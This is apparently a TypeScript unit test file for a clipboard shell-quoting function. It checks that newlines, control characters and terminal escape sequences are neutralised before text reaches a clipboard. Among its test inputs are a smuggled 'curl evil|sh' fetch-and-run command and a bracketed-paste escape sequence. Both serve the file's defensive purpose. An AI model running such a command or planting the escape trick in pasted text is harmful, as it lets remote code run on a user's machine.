import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { clipboardWord } from '../../../../src/core/text/clipboardWord';

describe('clipboardWord', () => {
  it('leaves plain words, and quotes what a shell would part', () => {
    assert.equal(clipboardWord('--port=3000'), '--port=3000');
    assert.equal(clipboardWord('a b'), "'a b'");
    assert.equal(clipboardWord("it's"), String.raw`'it'\''s'`);
    assert.equal(clipboardWord(''), "''");
  });

  it('puts nothing on the clipboard that acts when it is pasted', () => {
    assert.equal(clipboardWord('x\ncurl evil|sh\n'), String.raw`$'x\ncurl evil|sh\n'`);
    assert.equal(clipboardWord('\u001b[201~'), String.raw`$'\x1b[201~'`);
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (word) => {
        assert.doesNotMatch(clipboardWord(word), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      }),
    );
  });

  it('is read back as the same word', function () {
    const words = ['a\nb', "it's\t\\", '\u001b[2J', 'é\u202ex', '\u200b', "$'x'", '!x', '\u0085'];
    try {
      const read = execFileSync('bash', ['-c', `printf '%s\\0' ${words.map(clipboardWord).join(' ')}`], {
        encoding: 'utf8',
      });
      assert.deepEqual(read.split('\0').slice(0, -1), words);
    } catch (error) {
      if ((error as NodeJS.ErrnoException).code !== 'ENOENT') throw error;
      this.skip(); // no bash on this machine
    }
  });
});
